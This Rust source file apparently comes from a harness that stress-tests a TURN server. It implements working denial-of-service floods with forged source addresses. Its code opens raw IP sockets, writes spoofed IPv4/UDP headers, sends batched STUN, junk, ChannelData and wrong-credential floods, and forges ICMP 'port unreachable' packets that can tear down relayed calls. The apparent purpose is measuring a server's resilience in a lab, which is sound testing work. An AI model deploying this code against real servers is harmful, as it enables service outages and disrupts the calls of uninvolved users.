//! Floods of packets whose sources are forged.

use std::net::{IpAddr, Ipv4Addr, SocketAddr, SocketAddrV4, UdpSocket};

use rand::rngs::StdRng;
use rand::{Rng as _, RngExt as _, SeedableRng as _};
use socket2::{Domain, Protocol, Socket, Type};
use turnserver::auth::Secret;
use turnserver::client::{Algorithms, Credentials, Request, Session};
use turnserver::stun::{Message, TransactionId};

use crate::attack::{Attack, AttackArguments, RATE};
use crate::load::allocation::{allocation, exchange, write};
use crate::load::link::{Link, udp};
use crate::load::{Commands, Outcome, USER, Window, clock, datagrams};
use crate::measure::RELAY_PORTS;
use crate::output::print;

const IP_HEADER: usize = 20;
const UDP_HEADER: usize = 8;

/// The number of packets per system call.
const BATCH: u64 = 64;

/// A sender that is later than this skips packets.
const MAX_LATENESS: u64 = 20 * clock::MILLISECOND;

/// The length of random payloads, in bytes.
const JUNK: usize = 100;

/// The source of requests with wrong credentials, in the network of the attacker.
const GUESSER: Ipv4Addr = Ipv4Addr::new(10, 0, 0, 7);

/// What the packets of a flood are.
enum Kind {
    /// The same payload in each datagram, with a random transaction ID.
    Stun(Vec<u8>),
    /// The same header, followed by random bytes.
    Noise(&'static [u8]),
    /// An ICMP error about a packet of the call.
    Icmp,
}

/// Sends forged packets within a window and returns the number sent within the measurement.
pub(crate) fn run(attack: &AttackArguments, commands: &Commands) -> Outcome<u64> {
    let (kind, source, is_paced) = match attack.flood {
        Attack::JunkUnpaced => (Kind::Noise(&[]), None, false),
        Attack::Allocate => (Kind::Stun(write(&allocation(), TransactionId::new([0; 12]), None)?), None, true),
        Attack::Binding | Attack::BindingUnpaced => {
            let request = write(&Request::Binding, TransactionId::new([0; 12]), None)?;
            (Kind::Stun(request), None, attack.flood == Attack::Binding)
        }
        // The header of 96 bytes in channel 0x4000.
        Attack::ChannelData => (Kind::Noise(&[0x40, 0, 0, 96]), None, true),
        Attack::WrongCredentials => (Kind::Stun(wrong_request(attack)?), Some(GUESSER), true),
        Attack::Icmp => (Kind::Icmp, None, true),
        _ => (Kind::Noise(&[]), None, true),
    };
    let socket = raw_socket(attack.server)?;
    let mut forger = Forger { attack, kind, source, rng: StdRng::seed_from_u64(14), packets: Vec::new() };
    print("ready");
    let window = commands.window()?;
    Ok(send(&socket, &mut forger, window, is_paced))
}

fn send(socket: &UdpSocket, forger: &mut Forger<'_>, window: Window, is_paced: bool) -> u64 {
    clock::sleep_until(window.start);
    let (mut done, mut counted) = (0_u64, 0_u64);
    loop {
        let now = clock::now();
        if now >= window.to {
            return counted;
        }
        if is_paced {
            let due = now.saturating_sub(window.start) * RATE / clock::SECOND;
            done = done.max(due.saturating_sub(MAX_LATENESS * RATE / clock::SECOND));
            if due < done + BATCH {
                clock::sleep_until(window.start + (done + BATCH) * clock::SECOND / RATE);
                continue;
            }
        }
        let length = forger.fill();
        datagrams::send_each(socket, &forger.packets, length, &[]);
        done += BATCH;
        counted += if window.counts(now) { BATCH } else { 0 };
    }
}

/// Returns a socket for whole IP packets to the server. It has the type of a UDP socket, but none of its protocol.
fn raw_socket(server: SocketAddr) -> Outcome<UdpSocket> {
    // Protocol 255, IPPROTO_RAW: the packets contain their IP headers.
    let socket = Socket::new(Domain::IPV4, Type::RAW, Some(Protocol::from(255)))?;
    socket.connect(&SocketAddr::new(server.ip(), 0).into())?;
    Ok(socket.into())
}

/// Returns an Allocate request with a valid nonce and a wrong password.
fn wrong_request(attack: &AttackArguments) -> Outcome<Vec<u8>> {
    let mut link = Link::Udp(udp(IpAddr::V4(GUESSER), attack.server)?);
    let challenge = exchange(&mut link, &allocation(), None)?;
    let credentials = Credentials { username: USER.to_owned(), password: Secret::new("a wrong password")? };
    let session = Session::from_challenge(&Message::parse(&challenge)?, credentials, Algorithms::Rfc5389)?;
    write(&allocation(), TransactionId::new([0; 12]), Some(&session))
}

/// Writes forged packets.
struct Forger<'a> {
    attack: &'a AttackArguments,
    kind: Kind,
    /// The source address. `None` for a random one.
    source: Option<Ipv4Addr>,
    rng: StdRng,
    /// Packets of equal length.
    packets: Vec<u8>,
}

impl Forger<'_> {
    /// Writes the next batch and returns the length of each packet.
    fn fill(&mut self) -> usize {
        self.packets.clear();
        for _ in 0..BATCH {
            match &self.kind {
                Kind::Icmp => self.push_icmp(),
                Kind::Stun(_) | Kind::Noise(_) => self.push_datagram(),
            }
        }
        self.packets.len() / usize::try_from(BATCH).unwrap_or(1)
    }

    fn push_datagram(&mut self) {
        // 16.0.0.0/4 belongs to nobody in the namespaces, so that responses vanish at the attacker.
        let random = Ipv4Addr::from_bits(0x1000_0000 | self.rng.random_range(0..1 << 28));
        let source = SocketAddrV4::new(self.source.unwrap_or(random), self.rng.random_range(1024..=u16::MAX));
        let payload = match &self.kind {
            Kind::Stun(message) => {
                let mut message = message.clone();
                if self.source.is_none()
                    && let Some(id) = message.get_mut(8..20)
                {
                    self.rng.fill_bytes(id);
                }
                message
            }
            Kind::Noise(head) => {
                let mut noise = vec![0; JUNK];
                self.rng.fill_bytes(&mut noise);
                noise.iter_mut().zip(*head).for_each(|(byte, of_head)| *byte = *of_head);
                noise
            }
            Kind::Icmp => Vec::new(),
        };
        push_udp(&mut self.packets, source, v4(self.attack.server), &payload);
    }

    /// Writes "port unreachable" about a packet of the server to the peer or to a client.
    fn push_icmp(&mut self) {
        let (listen, relay) = (v4(self.attack.server), v4(SocketAddr::new(self.attack.relay, 0)));
        let (from, to) = if self.rng.random() {
            let ports = &self.attack.peer_ports;
            let port = ports.get(self.rng.random_range(0..ports.len().max(1))).copied().unwrap_or(9);
            let relayed = SocketAddrV4::new(*relay.ip(), self.rng.random_range(RELAY_PORTS.0..=RELAY_PORTS.1));
            (relayed, v4(SocketAddr::new(self.attack.peer, port)))
        } else {
            (listen, v4(SocketAddr::new(self.attack.client, self.rng.random_range(32_768..=60_999))))
        };
        let mut quoted = Vec::new();
        push_udp(&mut quoted, from, to, &[0; 20]);
        // Type 3, code 3 (RFC 792).
        let mut message = vec![3, 3, 0, 0, 0, 0, 0, 0];
        message.extend(quoted);
        let sum = checksum(&message).to_be_bytes();
        message.iter_mut().skip(2).zip(sum).for_each(|(byte, of_sum)| *byte = of_sum);
        push_ip(&mut self.packets, 1, *to.ip(), *from.ip(), message.len());
        self.packets.extend(message);
    }
}

fn v4(address: SocketAddr) -> SocketAddrV4 {
    match address {
        SocketAddr::V4(address) => address,
        SocketAddr::V6(_) => SocketAddrV4::new(Ipv4Addr::UNSPECIFIED, 0),
    }
}

fn push_udp(packets: &mut Vec<u8>, from: SocketAddrV4, to: SocketAddrV4, payload: &[u8]) {
    push_ip(packets, 17, *from.ip(), *to.ip(), UDP_HEADER + payload.len());
    packets.extend(from.port().to_be_bytes());
    packets.extend(to.port().to_be_bytes());
    packets.extend(u16::try_from(UDP_HEADER + payload.len()).unwrap_or(u16::MAX).to_be_bytes());
    // No checksum (RFC 768).
    packets.extend([0, 0]);
    packets.extend(payload);
}

/// Writes an IP header. The kernel computes the checksum of those that it sends.
fn push_ip(packets: &mut Vec<u8>, protocol: u8, from: Ipv4Addr, to: Ipv4Addr, length: usize) {
    let total = u16::try_from(IP_HEADER + length).unwrap_or(u16::MAX).to_be_bytes();
    let [high, low] = total;
    packets.extend([0x45, 0, high, low, 0, 1, 0, 0, 64, protocol, 0, 0]);
    packets.extend(from.octets());
    packets.extend(to.octets());
}

/// The Internet checksum (RFC 1071) of an even number of bytes.
fn checksum(bytes: &[u8]) -> u16 {
    let mut sum: u32 = bytes.as_chunks::<2>().0.iter().map(|pair| u32::from(u16::from_be_bytes(*pair))).sum();
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    !u16::try_from(sum).unwrap_or(0)
}
